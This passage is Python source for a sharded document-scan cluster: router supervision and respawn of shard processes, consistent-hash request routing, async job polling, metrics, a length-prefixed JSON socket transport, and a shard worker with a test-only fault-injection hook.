        supervisor all report failures, but only the first transition
        wins — the rest see a bumped generation or a non-live state.
        """
        with self._lock:
            if (
                handle.generation != expected_generation
                or handle.state != SHARD_LIVE
                or self._drained
            ):
                return
            handle.state = SHARD_DEAD
            handle.generation += 1
            self._counters["shard_failures"] += 1
            by_reason = self._counters["respawns"]
            by_reason[reason] = by_reason.get(reason, 0) + 1
        if self.obs.enabled:
            self.obs.metrics.inc("cluster_respawns", reason=reason)
        self._set_shard_gauges()
        threading.Thread(
            target=self._respawn, args=(handle, reason),
            name=f"repro-respawn-{handle.shard_id}", daemon=True,
        ).start()

    def _respawn(self, handle: ShardHandle, reason: str) -> None:
        # Non-blocking: a respawn already in progress holds the lock,
        # and piling further threads behind it helps nobody.
        if not handle.lock.acquire(blocking=False):
            return
        try:
            if handle.state != SHARD_DEAD:
                return
            handle.state = SHARD_RESTARTING
            old = handle.process
            if old is not None and old.is_alive():
                # Graceful first: SIGTERM lets the shard drain admitted
                # scans; a wedged one gets the grace, then SIGKILL.
                old.terminate()
                old.join(timeout=self.config.terminate_grace)
                if old.is_alive():
                    old.kill()
                    old.join(timeout=5.0)
            try:
                self._spawn(handle)
            except RuntimeError:
                handle.state = SHARD_DEAD
                return
            handle.respawns += 1
        finally:
            handle.lock.release()
        self._set_shard_gauges()

    def _live_ids(self) -> Set[int]:
        return {
            handle.shard_id
            for handle in self.shards
            if handle.state == SHARD_LIVE
        }

    # -- supervision -------------------------------------------------------

    def _probe_loop(self) -> None:
        while not self._stop_probing.wait(self.config.probe_interval):
            for handle in self.shards:
                if self._stop_probing.is_set():
                    return
                if handle.state == SHARD_DEAD:
                    # A previous respawn attempt failed (spawn error);
                    # keep trying — _respawn is idempotent per state.
                    threading.Thread(
                        target=self._respawn, args=(handle, "retry"),
                        daemon=True,
                    ).start()
                    continue
                if handle.state != SHARD_LIVE:
                    continue
                generation = handle.generation
                process, address = handle.process, handle.address
                if process is None or address is None:
                    continue
                if not process.is_alive():
                    self._shard_failed(handle, generation, "exited")
                    continue
                try:
                    reply = request(
                        address, {"op": "health"},
                        timeout=self.config.probe_timeout,
                    )
                except TransportError:
                    self._shard_failed(handle, generation, "unresponsive")
                    continue
                payload = reply.get("payload")
                if not isinstance(payload, dict):
                    continue
                handle.last_health = payload
                abandoned = int(payload.get("abandoned_workers", 0) or 0)
                if self.obs.enabled:
                    shard_label = str(handle.shard_id)
                    self.obs.metrics.set_gauge(
                        "cluster_shard_abandoned_workers", abandoned,
                        shard=shard_label,
                    )
                    self.obs.metrics.set_gauge(
                        "cluster_shard_in_flight",
                        int(payload.get("in_flight", 0) or 0),
                        shard=shard_label,
                    )
                    self.obs.metrics.set_gauge(
                        "cluster_shard_queue_depth",
                        int(payload.get("queue_depth", 0) or 0),
                        shard=shard_label,
                    )
                if abandoned >= self.config.wedge_threshold:
                    # The serve layer's hung-worker accounting is the
                    # wedge signal: this shard answered its probe but
                    # is burning slots on scans nobody waits for.
                    self._shard_failed(handle, generation, "wedged")

    def _set_shard_gauges(self) -> None:
        if not self.obs.enabled:
            return
        self.obs.metrics.set_gauge("cluster_live_shards", len(self._live_ids()))
        for handle in self.shards:
            self.obs.metrics.set_gauge(
                "cluster_shard_up",
                1 if handle.state == SHARD_LIVE else 0,
                shard=str(handle.shard_id),
            )

    # -- request paths -----------------------------------------------------

    def handle_scan(
        self,
        data: bytes,
        name: str = "document.pdf",
        limits_spec: Optional[str] = None,
        use_cache: bool = True,
        deadline_left: Optional[float] = None,
    ) -> ServeResult:
        start = time.perf_counter()
        result = self._route_scan(
            data, name, limits_spec, use_cache, deadline_left,
            asynchronous=False,
        )
        self._record_request(result, time.perf_counter() - start)
        return result

    def handle_async_submit(
        self,
        data: bytes,
        name: str = "document.pdf",
        limits_spec: Optional[str] = None,
        use_cache: bool = True,
    ) -> ServeResult:
        start = time.perf_counter()
        result = self._route_scan(
            data, name, limits_spec, use_cache, None, asynchronous=True,
        )
        self._record_request(result, time.perf_counter() - start)
        return result

    def _route_scan(
        self,
        data: bytes,
        name: str,
        limits_spec: Optional[str],
        use_cache: bool,
        deadline_left: Optional[float],
        asynchronous: bool,
    ) -> ServeResult:
        if self._drained:
            return self._unroutable(REASON_DRAINING, "cluster draining", name)
        self.start()
        digest = content_digest(data)
        now = time.monotonic()
        deadline_at = merge_deadlines(
            now + self.config.deadline_seconds
            if self.config.deadline_seconds is not None else None,
            now + deadline_left if deadline_left is not None else None,
        )
        frame: Dict[str, Any] = {
            "op": "submit" if asynchronous else "scan",
            "name": name,
            "data_b64": base64.b64encode(data).decode("ascii"),
            "use_cache": use_cache,
        }
        if limits_spec:
            frame["limits"] = limits_spec
        tried: Set[int] = set()
        while True:
            live = self._live_ids() - tried
            shard_id = self.ring.owner(digest, live=live)
            if shard_id is None:
                return self._unroutable(
                    REASON_NO_LIVE_SHARDS,
                    "no live shard for this document", name, digest,
                )
            handle = self.shards[shard_id]
            generation = handle.generation
            address = handle.address
            if address is None:
                tried.add(shard_id)
                continue
            remaining: Optional[float] = None
            if deadline_at is not None:
                remaining = deadline_at - time.monotonic()
                if remaining <= 0:
                    return ServeResult(
                        503,
                        {"error": "request deadline elapsed while routing",
                         "reason": REASON_ROUTER_DEADLINE, "name": name,
                         "sha256": digest},
                        retry_after=self.config.retry_after_seconds,
                    )
                frame["deadline_left"] = remaining
            # The wire wait covers the shard's own deadline handling
            # (worker abandon + grace) plus slack; with no deadline
            # configured anywhere, cap at 10 minutes so a vanished
            # peer can never hang the router thread.
            timeout = (
                remaining + self.config.hang_grace + 2.0
                if remaining is not None else 600.0
            )
            try:
                reply = request(address, frame, timeout=timeout)
            except TransportError as error:
                self._shard_failed(handle, generation, (
                    "mid-request" if error.mid_request else "unreachable"
                ))
                if error.mid_request:
                    return ServeResult(
                        503,
                        {"error": "shard failed while handling this request",
                         "reason": REASON_SHARD_FAILURE, "name": name,
                         "sha256": digest, "shard": shard_id},
                        retry_after=self.config.retry_after_seconds,
                    )
                with self._lock:
                    self._counters["reroutes"] += 1
                tried.add(shard_id)
                continue
            result = decode_result(reply)
            result.payload.setdefault("name", name)
            result.payload["shard"] = shard_id
            if asynchronous and result.status == 202:
                raw = str(result.payload.get("job", ""))
                token = f"s{shard_id}.g{generation}.{raw}"
                result.payload["job"] = token
                result.payload["poll"] = f"/jobs/{token}"
            with self._lock:
                by_shard = self._counters["by_shard"]
                key = str(shard_id)
                by_shard[key] = by_shard.get(key, 0) + 1
            return result

    def handle_batch(
        self,
        items: Sequence[Tuple[str, bytes]],
        limits_spec: Optional[str] = None,
    ) -> ServeResult:
        """Multi-status batch: every item routed by its own digest."""
        if self._drained:
            return self._unroutable(REASON_DRAINING, "cluster draining", "")
        workers = max(1, min(16, len(items)))
        with cf.ThreadPoolExecutor(
            max_workers=workers, thread_name_prefix="repro-cluster-batch"
        ) as pool:
            futures = [
                pool.submit(self.handle_scan, data, name, limits_spec)
                for name, data in items
            ]
            entries: List[Dict[str, Any]] = []
            counts = {"ok": 0, "shed": 0, "failed": 0}
            for (name, _), future in zip(items, futures):
                result = future.result()
                entries.append(
                    {"name": name, "status": result.status, **result.payload}
                )
                if result.ok:
                    counts["ok"] += 1
                elif result.status in (429, 503):
                    counts["shed"] += 1
                else:
                    counts["failed"] += 1
        return ServeResult(
            200, {"total": len(entries), "counts": counts, "items": entries}
        )

    def handle_job_status(self, job_token: str) -> ServeResult:
        """Route an async-job poll to the shard that owns the job.

        Job ids are rewritten to ``s<shard>.g<generation>.<id>`` at
        submission.  Jobs live in shard memory, so a poll can only be
        answered by the same shard *process*: a generation mismatch
        means that process is gone, and the poll gets a structured 404
        (``reason: "shard-restarted"``) instead of a misleading
        "unknown job" from the replacement.
        """
        match = _JOB_TOKEN.match(job_token)
        if match is None:
            return ServeResult(404, {
                "error": f"malformed job id {job_token!r} "
                         "(expected s<shard>.g<generation>.<id>)",
                "reason": REASON_BAD_JOB_ID,
            })
        shard_id, generation, raw = (
            int(match.group(1)), int(match.group(2)), match.group(3),
        )
        if shard_id >= len(self.shards):
            return ServeResult(404, {
                "error": f"job {job_token!r} names shard {shard_id}, "
                         f"but the cluster has {len(self.shards)}",
                "reason": REASON_BAD_JOB_ID,
            })
        handle = self.shards[shard_id]
        if generation != handle.generation:
            return ServeResult(404, {
                "error": "async jobs are process-local and shard "
                         f"{shard_id} restarted since this job was "
                         "accepted; resubmit the document",
                "reason": REASON_SHARD_RESTARTED, "shard": shard_id,
            })
        address = handle.address
        if handle.state != SHARD_LIVE or address is None:
            return ServeResult(
                503,
                {"error": f"shard {shard_id} is {handle.state}",
                 "reason": REASON_SHARD_FAILURE, "shard": shard_id},
                retry_after=self.config.retry_after_seconds,
            )
        try:
            reply = request(
                address, {"op": "job", "job": raw},
                timeout=self.config.probe_timeout,
            )
        except TransportError as error:
            self._shard_failed(handle, generation, (
                "mid-request" if error.mid_request else "unreachable"
            ))
            return ServeResult(
                503,
                {"error": "shard failed while answering the poll",
                 "reason": REASON_SHARD_FAILURE, "shard": shard_id},
                retry_after=self.config.retry_after_seconds,
            )
        result = decode_result(reply)
        if result.status == 404:
            result.payload.setdefault("reason", REASON_UNKNOWN_JOB)
        result.payload["shard"] = shard_id
        return result

    # -- introspection -----------------------------------------------------

    def health(self) -> ServeResult:
        live = len(self._live_ids())
        total = len(self.shards)
        if self._drained:
            status, code = "draining", 503
        elif live == total:
            status, code = "ok", 200
        elif live:
            status, code = "degraded", 200
        else:
            status, code = "down", 503
        with self._lock:
            respawns = sum(self._counters["respawns"].values())
        return ServeResult(code, {
            "status": status,
            "uptime_seconds": time.time() - self.started_at,
            "shards": [handle.snapshot() for handle in self.shards],
            "live_shards": live,
            "total_shards": total,
            "respawns": respawns,
        })

    def stats(self) -> Dict[str, Any]:
        """Router-local counters only — no shard round-trips."""
        with self._lock:
            return {
                key: (dict(value) if isinstance(value, dict) else value)
                for key, value in self._counters.items()
            }

    def metrics(self) -> ServeResult:
        router = self.stats()
        shards: Dict[str, Any] = {}
        for handle in self.shards:
            address = handle.address
            if handle.state != SHARD_LIVE or address is None:
                shards[str(handle.shard_id)] = {"state": handle.state}
                continue
            try:
                reply = request(
                    address, {"op": "metrics"},
                    timeout=self.config.probe_timeout,
                )
                shards[str(handle.shard_id)] = reply.get("payload", {})
            except TransportError as error:
                shards[str(handle.shard_id)] = {"error": str(error)}
        payload: Dict[str, Any] = {
            "router": router,
            "live_shards": len(self._live_ids()),
            "shards": shards,
        }
        if self.obs.enabled:
            payload["metrics"] = self.obs.metrics.snapshot()
            latency = self.obs.metrics.histogram(
                "cluster_router_latency_seconds"
            )
            if latency is not None and latency.count:
                payload["latency"] = {
                    "p50_seconds": latency.quantile(0.5),
                    "p95_seconds": latency.quantile(0.95),
                }
        return ServeResult(200, payload)

    def metrics_prometheus(self) -> str:
        live = Metrics()
        live.set_gauge("cluster_live_shards", len(self._live_ids()))
        live.set_gauge("cluster_uptime_seconds", time.time() - self.started_at)
        with self._lock:
            live.set_gauge("cluster_requests_total", self._counters["requests"])
            live.set_gauge("cluster_reroutes_total", self._counters["reroutes"])
            for status, count in self._counters["by_status"].items():
                live.set_gauge(
                    "cluster_requests_by_status", count, status=str(status)
                )
            for reason, count in self._counters["respawns"].items():
                live.set_gauge("cluster_respawns_total", count, reason=reason)
        for handle in self.shards:
            label = str(handle.shard_id)
            live.set_gauge(
                "cluster_shard_up",
                1 if handle.state == SHARD_LIVE else 0, shard=label,
            )
            live.set_gauge(
                "cluster_shard_generation", handle.generation, shard=label
            )
            if handle.last_health is not None:
                for key in ("in_flight", "queue_depth", "abandoned_workers",
                            "pending_jobs"):
                    value = handle.last_health.get(key)
                    if isinstance(value, (int, float)):
                        live.set_gauge(
                            f"cluster_shard_{key}", value, shard=label
                        )
        text = live.render_prometheus()
        if self.obs.enabled:
            text += self.obs.metrics.render_prometheus()
        return text

    def debug_slow(self) -> ServeResult:
        shards: Dict[str, Any] = {}
        for handle in self.shards:
            address = handle.address
            if handle.state != SHARD_LIVE or address is None:
                continue
            try:
                reply = request(
                    address, {"op": "slow"},
                    timeout=self.config.probe_timeout,
                )
                shards[str(handle.shard_id)] = reply.get("payload", {})
            except TransportError:
                continue
        return ServeResult(200, {"shards": shards})

    # -- internals ---------------------------------------------------------

    def respawn_shard(self, shard_id: int, reason: str = "manual") -> None:
        """Operator/test hook: force one shard through drain + respawn."""
        handle = self.shards[shard_id]
        self._shard_failed(handle, handle.generation, reason)

    def wait_all_live(self, timeout: float = 30.0) -> bool:
        """Block until every shard is live (tests; respawn settling)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if len(self._live_ids()) == len(self.shards):
                return True
            time.sleep(0.02)
        return len(self._live_ids()) == len(self.shards)

    def _start_cache_server(self) -> None:
        spec = self.cache_spec
        if spec.kind != KIND_SERVER or spec.address is not None:
            return
        parent, child = self._mp.Pipe(duplex=False)
        process = self._mp.Process(
            target=run_cache_server,
            args=("127.0.0.1", 0, _settings_fingerprint(self.settings)),
            kwargs={"path": spec.path, "ready": child},
            name="repro-cache-server",
            daemon=True,
        )
        process.start()
        child.close()
        if not parent.poll(self.config.spawn_timeout):
            process.kill()
            raise RuntimeError("cache server did not report its address")
        host, port = parent.recv()
        parent.close()
        self._cache_process = process
        self.cache_spec = replace(spec, address=(host, int(port)))

    def _stop_cache_server(self) -> None:
        process, self._cache_process = self._cache_process, None
        if process is None:
            return
        process.terminate()
        process.join(timeout=5.0)
        if process.is_alive():
            process.kill()
            process.join(timeout=2.0)

    def kill_cache_server(self) -> bool:
        """Test hook: SIGKILL the router-owned cache server, if any."""
        process = self._cache_process
        if process is None or not process.is_alive():
            return False
        process.kill()
        process.join(timeout=5.0)
        return True

    def _unroutable(
        self,
        reason: str,
        message: str,
        name: str,
        digest: Optional[str] = None,
    ) -> ServeResult:
        payload: Dict[str, Any] = {
            "error": message, "reason": reason, "name": name,
        }
        if digest is not None:
            payload["sha256"] = digest
        return ServeResult(
            503, payload, retry_after=self.config.retry_after_seconds
        )

    def _record_request(self, result: ServeResult, seconds: float) -> None:
        with self._lock:
            self._counters["requests"] += 1
            by_status = self._counters["by_status"]
            key = str(result.status)
            by_status[key] = by_status.get(key, 0) + 1
        if self.obs.enabled:
            self.obs.metrics.inc(
                "cluster_requests", status=str(result.status)
            )
            self.obs.metrics.observe(
                "cluster_router_latency_seconds", seconds,
                buckets=_LATENCY_BUCKETS,
            )


__all__ = [
    "ClusterConfig",
    "ClusterRouter",
    "REASON_BAD_JOB_ID",
    "REASON_DRAINING",
    "REASON_NO_LIVE_SHARDS",
    "REASON_ROUTER_DEADLINE",
    "REASON_SHARD_FAILURE",
    "REASON_SHARD_RESTARTED",
    "REASON_UNKNOWN_JOB",
    "SHARD_DEAD",
    "SHARD_LIVE",
    "SHARD_RESTARTING",
    "SHARD_STOPPED",
    "ShardHandle",
]
