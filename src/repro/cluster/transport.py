"""Framed JSON-over-TCP transport between router, shards and cache server.

One frame = a 4-byte big-endian length prefix + that many bytes of
UTF-8 JSON.  Document bodies travel base64-encoded inside the JSON
(``data_b64``), mirroring the HTTP batch endpoint's wire shape, so the
whole protocol stays introspectable with ``nc`` + ``jq`` and needs no
third-party serialisation.

Failure taxonomy matters more than speed here: the router must tell

* **could not connect** (shard just died / still booting) — safe to
  re-route the request to the next live shard, nothing was executed;
* **connection broke mid-request** (shard SIGKILLed while scanning) —
  the request may have partially executed; the router answers a
  structured 503 + Retry-After instead of silently retrying, because a
  retry would double-execute against an at-most-once expectation.

:class:`TransportError.mid_request` carries that distinction.  Every
socket carries a timeout — a wedged peer produces a timeout error, not
a hung caller (the "never a hang" clause of the fault-injection suite).
"""

from __future__ import annotations

import json
import socket
import struct
from typing import Any, Dict, Optional, Tuple

#: Frames larger than this are refused on read — above the HTTP body
#: cap (64 MiB) plus base64 overhead and envelope slack.
MAX_FRAME_BYTES = 96 * 1024 * 1024

_LEN = struct.Struct(">I")

Address = Tuple[str, int]


class TransportError(Exception):
    """A frame exchange failed.

    ``mid_request`` is False when the failure happened before the
    request was delivered (connect refused/timed out — safe to try
    another shard) and True once bytes were on the wire (response lost;
    the caller must surface the failure, not retry blindly).
    """

    def __init__(self, message: str, mid_request: bool = False) -> None:
        super().__init__(message)
        self.mid_request = mid_request


def send_frame(sock: socket.socket, payload: Dict[str, Any]) -> None:
    body = json.dumps(payload, separators=(",", ":")).encode("utf-8")
    if len(body) > MAX_FRAME_BYTES:
        raise TransportError(
            f"frame of {len(body)} bytes exceeds {MAX_FRAME_BYTES}",
            mid_request=False,
        )
    try:
        sock.sendall(_LEN.pack(len(body)) + body)
    except (OSError, ValueError) as error:
        raise TransportError(f"send failed: {error}", mid_request=True) from error


def recv_frame(sock: socket.socket) -> Optional[Dict[str, Any]]:
    """Read one frame; None on clean EOF at a frame boundary."""
    header = _recv_exact(sock, _LEN.size, allow_eof=True)
    if header is None:
        return None
    (length,) = _LEN.unpack(header)
    if length > MAX_FRAME_BYTES:
        raise TransportError(
            f"peer announced {length}-byte frame (cap {MAX_FRAME_BYTES})",
            mid_request=True,
        )
    body = _recv_exact(sock, length, allow_eof=False)
    assert body is not None
    try:
        payload = json.loads(body.decode("utf-8"))
    except (UnicodeDecodeError, ValueError) as error:
        raise TransportError(f"bad frame: {error}", mid_request=True) from error
    if not isinstance(payload, dict):
        raise TransportError("frame payload must be a JSON object", mid_request=True)
    return payload


def _recv_exact(
    sock: socket.socket, count: int, allow_eof: bool
) -> Optional[bytes]:
    chunks = []
    remaining = count
    while remaining:
        try:
            chunk = sock.recv(min(remaining, 1 << 20))
        except socket.timeout as error:
            raise TransportError(
                f"peer silent for {sock.gettimeout():g}s", mid_request=True
            ) from error
        except OSError as error:
            raise TransportError(f"recv failed: {error}", mid_request=True) from error
        if not chunk:
            if allow_eof and remaining == count:
                return None
            raise TransportError(
                "connection closed mid-frame", mid_request=True
            )
        chunks.append(chunk)
        remaining -= len(chunk)
    return b"".join(chunks)


def request(
    address: Address,
    payload: Dict[str, Any],
    timeout: Optional[float] = 5.0,
    connect_timeout: Optional[float] = None,
) -> Dict[str, Any]:
    """One request/response round trip on a fresh connection.

    Connect failures raise with ``mid_request=False``; anything after
    the connect raises with ``mid_request=True``.
    """
    try:
        sock = socket.create_connection(
            address, timeout=connect_timeout if connect_timeout else timeout
        )
    except OSError as error:
        raise TransportError(
            f"cannot connect to {address[0]}:{address[1]}: {error}",
            mid_request=False,
        ) from error
    try:
        sock.settimeout(timeout)
        send_frame(sock, payload)
        reply = recv_frame(sock)
    finally:
        try:
            sock.close()
        except OSError:
            pass
    if reply is None:
        raise TransportError("peer closed without replying", mid_request=True)
    return reply


__all__ = [
    "Address",
    "MAX_FRAME_BYTES",
    "TransportError",
    "recv_frame",
    "request",
    "send_frame",
]
