"""Sharded scan cluster (``repro.cluster``).

Horizontal scale-out for the scan service: a consistent-hash front
router (:class:`~repro.cluster.router.ClusterRouter`) over N shard
processes, each running the standard :class:`~repro.serve.app.
ScanService` core behind a framed-socket transport, with a pluggable
shared verdict cache (:class:`~repro.batch.cache.CacheBackend`) and
supervised hot drain/respawn of dead or wedged shards.

Quick start::

    from repro.cluster import ClusterConfig, ClusterRouter
    from repro.serve import start_server

    router = ClusterRouter(config=ClusterConfig(shards=4))
    with start_server(router, port=8080) as handle:
        ...  # the normal /scan, /batch, /jobs, /healthz, /metrics API

or ``repro cluster --shards 4 --port 8080`` from the CLI.  See
``docs/CLUSTER.md`` for topology, cache protocol and failure
semantics.
"""

from repro.cluster.cache import (
    CacheServer,
    CacheSpec,
    DiskCacheBackend,
    SocketCacheBackend,
)
from repro.cluster.ring import HashRing
from repro.cluster.router import ClusterConfig, ClusterRouter
from repro.cluster.worker import ShardConfig, ShardServer

__all__ = [
    "CacheServer",
    "CacheSpec",
    "ClusterConfig",
    "ClusterRouter",
    "DiskCacheBackend",
    "HashRing",
    "ShardConfig",
    "ShardServer",
    "SocketCacheBackend",
]
