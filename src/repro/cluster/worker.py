"""Shard worker: one :class:`~repro.serve.app.ScanService` behind the
framed-JSON socket transport.

The cluster's unit of capacity is a *shard process*: a private Python
interpreter (its own GIL) running the exact service core the standalone
daemon uses — admission control, per-request deadlines, async jobs,
abandoned-worker accounting — reached through
:mod:`repro.cluster.transport` frames instead of HTTP.  The router is
the only client; it speaks the same vocabulary as the HTTP handler
(``scan``/``submit``/``job``/``health``/``metrics``/``slow``) so every
service semantic keeps its single implementation in ``repro.serve``.

:class:`ShardServer` is deliberately transport-only: it owns a
listening socket and turns frames into ``ScanService`` calls.  Tests
run it in-process on a thread (no fork needed to cover the dispatch
table); :func:`run_shard` is the ``multiprocessing`` target that wraps
it with config materialisation, readiness signalling and SIGTERM
drain.

Fault injection: ``ShardConfig.wedge_marker`` (tests only) wraps the
pipeline so any document whose *name* contains the marker sleeps
before scanning — a deterministic stand-in for the pathological inputs
that wedge a worker thread.  Because the wrapper sits below the
service, the real abandoned-worker accounting fires, which is exactly
the signal the router's supervisor uses to drain and respawn.
"""

from __future__ import annotations

import base64
import binascii
import os
import socket
import threading
import time
from dataclasses import dataclass, field
from typing import Any, Dict, Optional

from repro import obs as obs_mod
from repro.batch.scanner import BatchScanner, _settings_fingerprint
from repro.cluster.cache import CacheSpec, build_backend
from repro.cluster.transport import (
    Address,
    TransportError,
    recv_frame,
    send_frame,
)
from repro.core.pipeline import PipelineSettings
from repro.serve.admission import AdmissionConfig
from repro.serve.app import HANG_GRACE_SECONDS, ScanService, ServeResult


@dataclass(frozen=True)
class ShardConfig:
    """Everything a shard process needs, in picklable form."""

    shard_id: int
    settings: Optional[PipelineSettings] = None
    jobs: int = 2
    backend: str = "thread"
    queue_depth: int = 16
    max_in_flight: Optional[int] = None
    deadline_seconds: Optional[float] = 30.0
    retry_after_seconds: float = 1.0
    max_pending_async: Optional[int] = None
    hang_grace: float = HANG_GRACE_SECONDS
    cache: CacheSpec = field(default_factory=CacheSpec)
    #: Collect shard-local obs metrics (MemorySink) so ``/metrics``
    #: aggregation has per-shard counters to merge.
    metrics: bool = False
    #: Test-only fault hook: documents whose *name* contains this
    #: marker sleep ``wedge_seconds`` before scanning.
    wedge_marker: Optional[str] = None
    wedge_seconds: float = 30.0


class _WedgingPipeline:
    """Pipeline wrapper that sleeps on marked documents (fault tests)."""

    def __init__(self, inner: Any, marker: str, seconds: float) -> None:
        self._inner = inner
        self._marker = marker
        self._seconds = seconds
        self.obs = getattr(inner, "obs", None)

    def scan(self, data: bytes, name: str = "document.pdf") -> Any:
        if self._marker in name:
            time.sleep(self._seconds)
        return self._inner.scan(data, name)


def build_service(config: ShardConfig) -> ScanService:
    """Materialise one shard's :class:`ScanService` from its config."""
    settings = config.settings if config.settings is not None else PipelineSettings()
    obs = obs_mod.Observability.in_memory() if config.metrics else None
    fingerprint = _settings_fingerprint(settings)
    cache = build_backend(config.cache, fingerprint)
    if config.wedge_marker is not None:
        marker, seconds = config.wedge_marker, config.wedge_seconds
        shared_obs = obs if obs is not None else obs_mod.get_default()

        def pipeline_factory() -> _WedgingPipeline:
            return _WedgingPipeline(
                settings.build(obs=shared_obs), marker, seconds
            )
    else:
        pipeline_factory = None

    scanner = BatchScanner(
        jobs=config.jobs,
        backend=config.backend if pipeline_factory is None else "thread",
        settings=settings,
        pipeline_factory=pipeline_factory,
        cache=cache,
        obs=obs,
    )
    admission = AdmissionConfig(
        max_queue_depth=config.queue_depth,
        max_in_flight=(
            config.max_in_flight if config.max_in_flight is not None
            else config.jobs
        ),
        deadline_seconds=config.deadline_seconds,
        retry_after_seconds=config.retry_after_seconds,
    )
    return ScanService(
        scanner=scanner,
        admission=admission,
        max_pending_async=config.max_pending_async,
        hang_grace=config.hang_grace,
        obs=obs,
    )


class ShardServer:
    """Serve one :class:`ScanService` over framed JSON on a TCP socket."""

    def __init__(
        self,
        service: ScanService,
        shard_id: int = 0,
        host: str = "127.0.0.1",
        port: int = 0,
    ) -> None:
        self.service = service
        self.shard_id = shard_id
        self._host = host
        self._port = port
        self._sock: Optional[socket.socket] = None
        self._thread: Optional[threading.Thread] = None
        self._stopped = threading.Event()
        self._closed = False
        #: Invoked once after a completed stop (the process target uses
        #: it to unblock its main thread and exit).
        self.on_stop: Optional[Any] = None

    @property
    def address(self) -> Address:
        assert self._sock is not None, "shard server not started"
        return self._sock.getsockname()[:2]

    def start(self) -> "ShardServer":
        if self._sock is not None:
            return self
        self.service.start()
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((self._host, self._port))
        sock.listen(128)
        sock.settimeout(0.2)  # the accept loop polls _stopped
        self._sock = sock
        self._thread = threading.Thread(
            target=self._serve, name=f"repro-shard-{self.shard_id}", daemon=True
        )
        self._thread.start()
        return self

    def stop(self, drain_timeout: Optional[float] = 10.0) -> None:
        if self._closed:
            return
        self._closed = True
        self._stopped.set()
        if self._thread is not None:
            self._thread.join(timeout=5.0)
            self._thread = None
        if self._sock is not None:
            try:
                self._sock.close()
            except OSError:
                pass
            self._sock = None
        self.service.drain(drain_timeout)
        if self.on_stop is not None:
            self.on_stop()

    # -- the serve loop ----------------------------------------------------

    def _serve(self) -> None:
        assert self._sock is not None
        while not self._stopped.is_set():
            try:
                conn, _addr = self._sock.accept()
            except socket.timeout:
                continue
            except OSError:
                break
            threading.Thread(
                target=self._handle, args=(conn,), daemon=True
            ).start()

    def _handle(self, conn: socket.socket) -> None:
        # Generous per-connection timeout: the router bounds its own
        # waits; this only stops a dead router pinning handler threads.
        conn.settimeout(600.0)
        try:
            while True:
                try:
                    frame = recv_frame(conn)
                except TransportError:
                    break
                if frame is None:
                    break
                try:
                    reply = self.dispatch(frame)
                except Exception as error:  # noqa: BLE001 - shard must stay up
                    reply = {
                        "ok": False, "status": 500,
                        "payload": {
                            "error": f"{type(error).__name__}: {error}"
                        },
                    }
                try:
                    send_frame(conn, reply)
                except TransportError:
                    break
        finally:
            try:
                conn.close()
            except OSError:
                pass

    # -- dispatch ----------------------------------------------------------

    def dispatch(self, frame: Dict[str, Any]) -> Dict[str, Any]:
        """Map one frame onto the service; always returns a reply dict."""
        op = frame.get("op")
        if op == "ping":
            return {"ok": True, "shard": self.shard_id, "pid": os.getpid()}
        if op == "scan":
            return self._scan(frame, asynchronous=False)
        if op == "submit":
            return self._scan(frame, asynchronous=True)
        if op == "job":
            return _encode(self.service.handle_job_status(
                str(frame.get("job", ""))
            ))
        if op == "health":
            reply = _encode(self.service.health())
            reply["payload"]["shard"] = self.shard_id
            reply["payload"]["pid"] = os.getpid()
            return reply
        if op == "metrics":
            return _encode(self.service.metrics())
        if op == "slow":
            return _encode(self.service.debug_slow())
        if op == "shutdown":
            # Acknowledge first; the caller's frame exchange must not
            # race the drain.  The actual stop happens on another
            # thread so this handler can still send the reply.
            threading.Thread(
                target=self.stop,
                kwargs={"drain_timeout": frame.get("drain_timeout", 10.0)},
                daemon=True,
            ).start()
            return {"ok": True, "shard": self.shard_id, "stopping": True}
        return {"ok": False, "status": 400,
                "payload": {"error": f"unknown op {op!r}"}}

    def _scan(self, frame: Dict[str, Any], asynchronous: bool) -> Dict[str, Any]:
        try:
            data = base64.b64decode(frame.get("data_b64", ""), validate=True)
        except (binascii.Error, ValueError) as error:
            return {"ok": True, "status": 400,
                    "payload": {"error": f"bad base64 body: {error}"}}
        name = str(frame.get("name", "document.pdf"))
        limits = frame.get("limits")
        use_cache = bool(frame.get("use_cache", True))
        if asynchronous:
            result = self.service.handle_async_submit(
                data, name, limits, use_cache
            )
        else:
            deadline_left = frame.get("deadline_left")
            result = self.service.handle_scan(
                data, name, limits, use_cache,
                deadline_left=(
                    float(deadline_left) if deadline_left is not None else None
                ),
            )
        return _encode(result)


def _encode(result: ServeResult) -> Dict[str, Any]:
    return {
        "ok": True,
        "status": result.status,
        "payload": result.payload,
        "retry_after": result.retry_after,
    }


def decode_result(reply: Dict[str, Any]) -> ServeResult:
    """Reply frame back into a :class:`ServeResult` (router side)."""
    payload = reply.get("payload")
    if not isinstance(payload, dict):
        payload = {"error": "malformed shard reply"}
    retry_after = reply.get("retry_after")
    return ServeResult(
        int(reply.get("status", 500)),
        payload,
        retry_after=float(retry_after) if retry_after is not None else None,
    )


def run_shard(config: ShardConfig, ready: Any) -> None:
    """Process target: build the service, listen, report, serve, drain.

    ``ready`` is a pipe end; the shard sends ``["host", port]`` once
    listening (or ``{"error": ...}`` if construction failed) and closes
    it.  SIGTERM triggers a graceful stop — drain in-flight scans, then
    exit 0 — which is what the router's supervisor sends on respawn.
    """
    import signal

    try:
        server = ShardServer(
            build_service(config), shard_id=config.shard_id
        ).start()
    except Exception as error:  # noqa: BLE001 - report, don't hang the router
        try:
            ready.send({"error": f"{type(error).__name__}: {error}"})
            ready.close()
        except OSError:
            pass
        raise
    ready.send(list(server.address))
    ready.close()
    done = threading.Event()
    server.on_stop = done.set  # shutdown op ends the process too
    signal.signal(signal.SIGTERM, lambda *_: done.set())
    signal.signal(signal.SIGINT, lambda *_: done.set())
    done.wait()
    server.stop()
    # Exit without running interpreter shutdown joins: a wedged scan
    # thread (abandoned past its budget) would otherwise pin this
    # process open past the supervisor's terminate grace.  Drain
    # already finished everything that could finish.
    os._exit(0)


__all__ = [
    "ShardConfig",
    "ShardServer",
    "build_service",
    "decode_result",
    "run_shard",
]
