"""Consistent-hash ring over shard ids (``repro.cluster.ring``).

The router keys every request by the document's SHA-256 digest — the
same content address the verdict cache uses — so each shard's LRU cache
naturally partitions: a given document always lands on the same shard,
and that shard's cache answers every repeat.

A plain ``digest % N`` mapping would reshuffle *every* key when a shard
dies; the classic consistent-hash construction (``replicas`` virtual
points per shard on a 256-bit ring, lookup = first point clockwise of
